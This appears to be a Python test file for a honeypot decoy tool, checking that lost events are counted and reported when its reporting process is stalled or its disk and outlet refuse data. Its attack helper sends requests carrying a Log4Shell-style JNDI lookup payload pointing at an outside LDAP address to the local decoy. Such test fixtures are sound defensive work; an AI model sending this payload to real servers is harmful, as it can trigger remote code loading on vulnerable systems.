"""What a decoy says of events that it could not tell anybody, without privileges: test_decoy_loses.py CALTROP"""
import json
import os
import pathlib
import re
import resource
import shutil
import signal
import socket
import subprocess
import sys
import tempfile
import unittest
import urllib.request

from decoy_case import CALTROP, free_port, until, until_alive

del sys.argv[1]


class Loses(unittest.TestCase):
    def setUp(self):
        self.dir = pathlib.Path(tempfile.mkdtemp(prefix="caltrop-loses-"))
        self.port, self.metrics, self.closed = (free_port() for _ in range(3))
        self.process, self.words = None, b""

    def tearDown(self):
        if self.process and self.process.poll() is None:
            self.process.kill()
            self.process.wait()
        if self.process:
            self.process.stderr.close()
        shutil.rmtree(self.dir)

    def start(self, *options):
        with open(self.dir / "out", "wb") as out:
            self.process = subprocess.Popen([CALTROP, "decoy", "--unprivileged", "--answer-port", str(self.port), "--data-dir", str(self.dir / "data"), "--json",
                                             "--metrics", str(self.metrics), *options], stdout=out, stderr=subprocess.PIPE)
        os.set_blocking(self.process.stderr.fileno(), False)
        until_alive(self.process, self.dir / "out", self.said)

    def said(self):
        self.words += self.process.stderr.read() or b""
        return self.words.decode()

    def stop(self):
        self.process.send_signal(signal.SIGTERM)
        self.assertEqual(self.process.wait(120), 0, self.said())

    def teller(self):
        """The parent's first child: what it is told of is to be told from the start."""
        with open(f"/proc/{self.process.pid}/task/{self.process.pid}/children") as f:
            return int(f.read().split()[0])

    def counts(self):
        with urllib.request.urlopen(f"http://127.0.0.1:{self.metrics}/metrics") as page:
            return {name: int(value) for name, value in re.findall(r"^caltrop_decoy_(\w+) (\d+)$", page.read().decode(), re.M)}

    def attack(self, n):
        """From an address of its own: told of at once."""
        with socket.create_connection(("127.0.0.1", self.port), source_address=(f"127.1.{n // 250}.{n % 250 + 1}", 0)) as s:
            s.sendall(b"GET / HTTP/1.1\r\nHost: x\r\nUser-Agent: ${jndi:ldap://10.6.6.6/%d}\r\nConnection: close\r\n\r\n" % n)
            while s.recv(65536):
                pass

    def test_a_teller_that_takes_nothing(self):
        self.start()
        os.kill(self.teller(), signal.SIGSTOP)
        for n in range(20_000):  # what the socket between them holds is the kernel's to say
            self.attack(n)
            if n % 100 == 0 and self.counts()["events_lost_total"]:
                break
        counts = until("what came is counted", lambda: (lambda c: c if c["events_lost_total"] else None)(self.counts()))
        self.assertGreater(counts["events_waiting"], 0)
        os.kill(self.teller(), signal.SIGCONT)
        until("what waited is told", lambda: self.counts()["events_waiting"] == 0)
        counts = self.counts()
        self.stop()
        said = re.findall(r"(\d+) events found no place, since the teller does not take them", self.said())
        self.assertEqual(sum(map(int, said)), counts["events_lost_total"])
        told = [e for e in map(json.loads, (self.dir / "out").read_text().splitlines()) if "source" in e]
        self.assertGreaterEqual(len({e["source"]["ip"] for e in told}), 100)  # and what found one is whole

    def test_an_outlet_and_a_disk_that_take_nothing(self):
        self.start("--to", f"http://127.0.0.1:{self.closed}/in?token=secret")
        resource.prlimit(self.teller(), resource.RLIMIT_FSIZE, (0, 0))  # a full disk
        for n in range(3):
            self.attack(n)
        until("they came", lambda: self.counts()["events_total"] >= 3)
        self.stop()
        lost = re.search(rf"--to http://127\.0\.0\.1:{self.closed}: (\d+) events lost to it: not delivered, and its spool took none: File too large", self.said())
        self.assertTrue(lost, self.said())
        self.assertGreaterEqual(int(lost.group(1)), 3)
        self.assertNotIn("secret", self.said())


if __name__ == "__main__":
    unittest.main(verbosity=2)
